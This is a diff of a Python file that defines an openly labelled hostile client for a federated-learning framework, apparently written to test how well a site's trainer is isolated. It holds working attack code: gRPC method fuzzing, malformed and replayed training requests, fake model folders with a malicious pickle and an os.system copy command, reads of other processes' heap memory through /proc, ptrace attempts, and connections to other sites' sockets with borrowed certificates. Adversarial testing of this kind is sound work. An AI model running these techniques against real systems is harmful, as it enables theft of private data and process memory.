@@ -1,6 +1,6 @@
-"""The ClientApp: asks the site's trainer for everything that its environment lets it ask, and looks around itself.
+"""The hostile ClientApp: sends every possible request to the site's trainer, and searches the machine.
 
-It imports what is installed at the site, knows the project's code, and knows paths and processes from the coordinator.
+It can import what is installed at the site, and gets paths and process ids from the coordinator.
 """
 
 from __future__ import annotations
@@ -21,9 +21,9 @@ import numpy as np
 from flwr.app import ConfigRecord, Context, Message, RecordDict
 from flwr.clientapp import ClientApp
 
-from colora.client.trainer_service import serde as parts
+from colora.client.trainer_service import serde
 from colora.client.trainer_service.client import connect
-from colora.client.trainer_service.proto import trainer_pb2 as wire
+from colora.client.trainer_service.proto import trainer_pb2 as pb
 from colora.client.trainer_service.proto import trainer_pb2_grpc
 from colora.common.config.schema import Plan, parse
 from colora.common.methods import METHODS, SHARED
@@ -38,11 +38,11 @@ Raw = dict[str, Any]
 
 @app.query()
 def steal(message: Message, context: Context) -> Message:
-    targets = json.loads(str(message.content.config_records["order"]["targets"]))
+    targets = json.loads(str(message.content.config_records["request"]["targets"]))
     thief = Thief(targets)
     attempts = [thief.lead, thief.look_around]
     if not targets["sites"][thief.site.name]["open"]:
-        attempts += [thief.ask_for_anything, thief.plans, thief.orders]
+        attempts += [thief.ask_for_anything, thief.plans, thief.requests]
     for attempt in attempts:
         try:
             attempt()
@@ -52,7 +52,7 @@ def steal(message: Message, context: Context) -> Message:
 
 
 class Thief:
-    """What it got stands in ``loot``, by what it was."""
+    """Collects what it gets in ``loot``, by description."""
 
     def __init__(self, targets: Raw) -> None:
         self.loot: Raw = {}
@@ -68,7 +68,7 @@ class Thief:
         self.loot[f"{len(self.loot)} {what}"] = (data.encode() if isinstance(data, str) else data)[:MOST]
 
     def call(self, what: str, ask: Callable[[trainer_pb2_grpc.TrainerStub, grpc.Channel], Any]) -> list[Any]:
-        """Everything that one call gives, errors too."""
+        """Collect everything that one call returns, including errors."""
         answers = []
         with self.site.channel() as channel:
             try:
@@ -81,17 +81,17 @@ class Thief:
                 self.take(f"error: {what}", "\n".join(map(str, said)))
         return answers
 
-    # --- as a coordinator should ---------------------------------------------------------------------------------
+    # --- normal requests ---------------------------------------------------------------------------------
 
     def lead(self) -> None:
-        """Two rounds and the close, so that the site has a state; round 2 again with another adapter."""
+        """Send two rounds and the final request, so that the site has states."""
         for t, phase in ((1, "train"), (2, "train"), (3, "finalize")):
             self.train(f"lead {t}", self.plan, t, kind=phase, admitted_round=t - 1, evaluate=True)
 
-    # --- what the trainer's surface offers, and what it does not ------------------------------------------------
+    # --- other gRPC methods ------------------------------------------------
 
     def ask_for_anything(self) -> None:
-        names = ["Dump", "GetState", "Export", "Core", "Head", "Rows", "Audit", "site_info", "Train/", "../Train", ""]
+        names = ["Dump", "GetState", "Export", "Core", "Head", "Rows", "Audit", "GetSiteInfo", "Train/", "../Train", ""]
         reflection = [f"/grpc.reflection.{v}.ServerReflection/ServerReflectionInfo" for v in ("v1", "v1alpha")]
         channelz = [f"/grpc.channelz.v1.Channelz/{name}" for name in ("GetServers", "GetTopChannels", "GetSockets")]
         health = [f"/grpc.health.v1.Health/{name}" for name in ("Check", "List")]
@@ -99,7 +99,7 @@ class Thief:
             self.call(path, lambda _, channel, p=path: channel.unary_unary(p)(b"", timeout=30))
             self.call(path, lambda _, channel, p=path: channel.stream_stream(p)(iter([b"\x0a\x01*"]), timeout=30))
 
-    # --- plans of its own -----------------------------------------------------------------------------------------
+    # --- plans -----------------------------------------------------------------------------------------
 
     def changed(self, federation: str, **tables: Raw) -> Raw:
         plan = {**self.plan, "name": federation}
@@ -108,7 +108,7 @@ class Thief:
         return plan
 
     def wishes(self) -> Iterator[tuple[str, Raw]]:
-        """Plans that share more, reach further or look elsewhere: in the site's federation and in made-up ones."""
+        """Plans that share more or use other models, in the site's federation and in others."""
         town = self.plan["name"]
         for name in METHODS:
             for more in (
@@ -143,21 +143,21 @@ class Thief:
 
     def plans(self) -> None:
         for what, plan in self.wishes():
-            described = self.call(f"describe {what}", lambda stub, _, p=plan: stub.Describe(self.question(p)))
+            described = self.call(f"describe {what}", lambda stub, _, p=plan: stub.GetSiteInfo(self.question(p)))
             classes = described[0].classes if described else 2
             self.train(what, plan, 1, classes=classes)
             if described:
                 self.train(f"{what}, close", plan, 2, kind="finalize", classes=classes)
         raw = json.dumps(self.plan)
         for text in ("", "[]", "{}", "null", raw[:-1], raw.replace("colora", "col\x00ora"), raw + raw):
-            self.call("text", lambda stub, _, t=text: stub.Describe(wire.DescribeRequest(plan=t, protocol=PROTOCOL)))
-        self.call("version", lambda stub, _: stub.Describe(wire.DescribeRequest(plan=raw, protocol=99)))
+            self.call("text", lambda stub, _, t=text: stub.GetSiteInfo(pb.SiteInfoRequest(plan=t, protocol=PROTOCOL)))
+        self.call("version", lambda stub, _: stub.GetSiteInfo(pb.SiteInfoRequest(plan=raw, protocol=99)))
 
-    def question(self, plan: Raw) -> wire.DescribeRequest:
-        return wire.DescribeRequest(federation=plan["name"], plan=json.dumps(plan), protocol=PROTOCOL)
+    def question(self, plan: Raw) -> pb.SiteInfoRequest:
+        return pb.SiteInfoRequest(federation=plan["name"], plan=json.dumps(plan), protocol=PROTOCOL)
 
     def models(self) -> Iterator[str]:
-        """Folders made here that look like the base model, with code, a pickle, or links to the site's rows in them."""
+        """Create folders that look like the base model, with code, a pickle, or links to the site's rows in them."""
         steal = f"import os\nos.system('cp -r {' '.join(self.paths)} {self.drop}/taken; chmod -R a+rX {self.drop}')\n"
 
         class Pickle:
@@ -185,10 +185,10 @@ class Thief:
             os.system(f"chmod -R a+rX {folder}")
             yield str(folder)
 
-    # --- orders of its own ----------------------------------------------------------------------------------------
+    # --- requests ----------------------------------------------------------------------------------------
 
     def arrays(self, plan: Raw, seed: int, classes: int = 2) -> dict[str, np.ndarray]:
-        """The shared groups of a plan for the tiny model, with values of its own."""
+        """Return random values for the shared groups of a plan with the tiny model."""
         rng, rank = np.random.default_rng(abs(seed)), plan["adapter"]["rank"]
         try:
             row = parse(Plan, plan).method.row()
@@ -210,11 +210,11 @@ class Thief:
             "shared": self.arrays(plan, t, classes),
             **changes,
         }
-        order = TrainRequest(plan["name"], t, plan=json.dumps(plan), **values)
-        self.call(f"train {what}", lambda stub, _: stub.Train(parts.request_parts(order)))
+        request = TrainRequest(plan["name"], t, plan=json.dumps(plan), **values)
+        self.call(f"train {what}", lambda stub, _: stub.Train(serde.request_parts(request)))
 
-    def orders(self) -> None:
-        """In the allowed plan: other arrays, other rounds, other phases, old rounds again, and out of order."""
+    def requests(self) -> None:
+        """Send other arrays, rounds and kinds in the allowed plan, old rounds again, and rounds out of order."""
         shared = self.arrays(self.plan, 1)
         personal = [key.replace("lora_A.weight", "lora_core") for key in shared if "lora_A" in key]
         for name in (*personal, "head.classifier.weight", "state/head.classifier.weight", "moments/x", "core", "*"):
@@ -232,7 +232,7 @@ class Thief:
                 self.train(f"round {t} after {admitted} {phase}", self.plan, t, admitted_round=admitted, kind=phase)
         for phase in ("state", "export", ""):
             self.train(f"phase {phase}", self.plan, 4, admitted_round=2, kind=phase)
-        head, *chunks = parts.request_parts(
+        head, *chunks = serde.request_parts(
             TrainRequest(self.plan["name"], 7, "train", 2, json.dumps(self.plan), shared, True)
         )
         for name, sent in {
@@ -243,10 +243,10 @@ class Thief:
         }.items():
             self.call(f"parts {name}", lambda stub, _, s=sent: stub.Train(iter(s)))
 
-    # --- without asking ---------------------------------------------------------------------------------------------
+    # --- the machine ---------------------------------------------------------------------------------------------
 
     def look_around(self) -> None:
-        """Files, sockets and memory, as the user that it is."""
+        """Try to read files, sockets and memory, as the user of this process."""
         for path in self.paths:
             self.read(Path(path))
             for folder, _, files in os.walk(path):
@@ -262,7 +262,7 @@ class Thief:
             for name in ("fd", "cwd", "root", "task", "map_files"):
                 with suppress(OSError):
                     self.take(f"list: {place / name}", "\n".join(os.listdir(place / name)))
-            self.optimizer_state(pid)
+            self.memory(pid)
             if ctypes.CDLL(None).ptrace(0x4206, pid, 0, 0) == 0:  # PTRACE_SEIZE
                 self.take(f"traced: {pid}", "yes")
         for site in self.others.values():
@@ -273,7 +273,7 @@ class Thief:
             self.take(f"file: {path}", file.read(MOST))
 
     def memory(self, pid: int) -> None:
-        """The first pages of a process's heap."""
+        """Read the first pages of a process's heap."""
         with suppress(OSError, StopIteration, ValueError):
             heap = next(line for line in Path(f"/proc/{pid}/maps").read_text().splitlines() if line.endswith("[heap]"))
             with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
@@ -281,12 +281,12 @@ class Thief:
                 self.take(f"memory: {pid}", file.read(MOST))
 
     def connect_to(self, address: str) -> None:
-        """Another site's trainer: its socket, or its port with this site's certificates."""
+        """Connect to another site's trainer: to its socket, or to its port with this site's certificates."""
         if address.startswith("unix:"):
             with suppress(OSError), socket.socket(socket.AF_UNIX) as door:
                 door.connect(address.removeprefix("unix:"))
                 self.take(f"connected: {address}", "yes")
         elif address != self.site.address and not self.site.address.startswith("unix:"):
             own, self.site.address = self.site.address, address
-            self.call("another's trainer", lambda stub, _: stub.Describe(self.question(self.plan), timeout=10))
+            self.call("another's trainer", lambda stub, _: stub.GetSiteInfo(self.question(self.plan), timeout=10))
             self.site.address = own
